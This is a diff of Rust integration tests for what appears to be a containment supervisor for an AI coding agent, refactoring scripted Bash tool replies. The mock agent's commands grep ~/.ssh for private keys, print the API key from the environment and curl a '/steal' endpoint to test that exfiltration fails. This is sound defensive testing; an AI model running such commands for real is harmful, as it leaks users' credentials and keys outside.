@@ -117,10 +117,7 @@ fn the_real_client_contained_reaches_the_api_only_through_the_gateway_with_a_bro
             "Grep",
             json!({"pattern": "PRIVATE", "path": home.join(".ssh").to_str().unwrap(), "output_mode": "content"}),
         ),
-        Reply::tool(
-            "Bash",
-            json!({"command": "echo key=$ANTHROPIC_API_KEY; env | grep -c sk-ant-real; echo hi > src/out.txt; curl -s -m 3 http://127.0.0.2:9/steal || echo exfil-failed", "description": "look around"}),
-        ),
+        Reply::bash("echo key=$ANTHROPIC_API_KEY; env | grep -c sk-ant-real; echo hi > src/out.txt; curl -s -m 3 http://127.0.0.2:9/steal || echo exfil-failed", "look around"),
         Reply::text("done"),
     ]);
     std::fs::write(root.join("loopward.toml"), config(&claude, port, "")).unwrap();
@@ -183,9 +180,9 @@ fn a_contained_clients_hooks_are_judged_and_recorded_by_the_supervisor_outside()
             root.join("plans/roadmap.md").to_str().unwrap(),
             "# Mine now\n",
         ),
-        Reply::tool(
-            "Bash",
-            json!({"command": "echo hi > src/notes.txt; echo exit=$?; echo x > plans/b.md; echo plans=$?", "description": "a command"}),
+        Reply::bash(
+            "echo hi > src/notes.txt; echo exit=$?; echo x > plans/b.md; echo plans=$?",
+            "a command",
         ),
         Reply::text("done"),
     ]);
